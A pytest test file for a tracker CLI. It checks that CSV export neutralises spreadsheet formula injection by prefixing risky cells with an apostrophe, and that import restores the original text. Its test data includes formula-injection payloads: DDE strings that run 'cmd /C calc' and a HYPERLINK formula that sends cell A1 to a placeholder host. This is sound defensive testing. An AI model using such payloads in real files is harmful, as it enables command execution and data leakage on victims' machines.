"""Spreadsheet safety: a CSV export never hands a spreadsheet a formula, and imports back as it was.

Rule (see ``transfer.escape_cell``): a cell whose text, after any leading apostrophes, starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets one apostrophe in front; the
import takes exactly that apostrophe off again.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from hecht_tracker.cli import cli
from hecht_tracker.storage.store import Store
from hecht_tracker.transfer import escape_cell, read_rows, unescape_cell

TODAY = "2026-11-23"
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def run(db: Path, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--db", str(db), "--today", TODAY, *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def csv_records(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("title", FORMULAS)
def test_a_formula_title_is_exported_as_text_a_spreadsheet_will_not_run(
    db_path: Path, title: str
) -> None:
    run(db_path, "action", "add", "--", title)
    rows = csv_records(run(db_path, "export", "--kind", "actions", "--format", "csv"))
    cell = rows[-1]["title"]
    assert cell == "'" + title
    for row in rows:  # no cell anywhere starts a formula
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("text", ["\tgetabd=1+1", "\r=1+1", "=A1\nregel twee"])
def test_a_description_starting_with_a_tab_or_carriage_return_is_escaped(
    db_path: Path, text: str
) -> None:
    run(db_path, "action", "add", "Omschreven", "--description", text)
    rows = csv_records(run(db_path, "export", "--kind", "actions", "--format", "csv"))
    assert rows[-1]["description"] == "'" + text


def test_export_then_import_gives_back_every_title_exactly(db_path: Path, tmp_path: Path) -> None:
    titles = [
        *FORMULAS,
        "'=1+1",  # really starts with an apostrophe and a formula sign
        "''=2",
        "'s-Hertogenbosch",  # Dutch names that start with an apostrophe stay as they are
        "'t Hofje",
        "'",
        "-",
        "Gewone titel",
    ]
    for title in titles:
        run(db_path, "action", "add", "--description", "\t" + title, "--", title)
    export = tmp_path / "acties.csv"
    run(db_path, "export", "--kind", "actions", "--format", "csv", "--out", str(export))
    before = run(db_path, "action", "list", "--json")
    assert "0 toegevoegd" in run(db_path, "import", str(export), "--kind", "actions")
    assert run(db_path, "action", "list", "--json") == before  # nothing changed by the trip
    journal = run(db_path, "journal", "--json")
    assert '"field": "title"' not in journal  # no title was "changed" into its escaped form
    by_title = {row.values["title"]: row.values for row in read_rows(export)}
    for title in titles:
        assert title in by_title
        assert by_title[title]["description"] == "\t" + title
    again = tmp_path / "opnieuw.csv"
    run(db_path, "export", "--kind", "actions", "--format", "csv", "--out", str(again))
    assert again.read_bytes() == export.read_bytes()


def test_an_imported_formula_into_a_new_database_stays_text(tmp_path: Path) -> None:
    source = tmp_path / "doelen.csv"
    source.write_text("title,number,programme_id\n'=1+1,4,1\n'+A1,5,1\n", encoding="utf-8")
    # a title of a single line: the unescaped value must not keep an apostrophe
    db = tmp_path / "hecht.sqlite"
    Store.open(db).close()
    run(db, "import", str(source), "--kind", "goals")
    titles = [g["title"] for g in __import__("json").loads(run(db, "goal", "list", "--json"))]
    assert "=1+1" in titles and "+A1" in titles


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1", "'=1"),
        ("'=1", "''=1"),
        ("''=1", "'''=1"),
        ("'s-Gravenhage", "'s-Gravenhage"),
        ("'t", "'t"),
        ("a=1", "a=1"),
        ("", ""),
        ("'", "'"),
        (" =1", " =1"),
    ],
)
def test_the_escaping_rule_and_its_inverse(text: str, cell: str) -> None:
    assert escape_cell(text) == cell
    assert unescape_cell(cell) == text
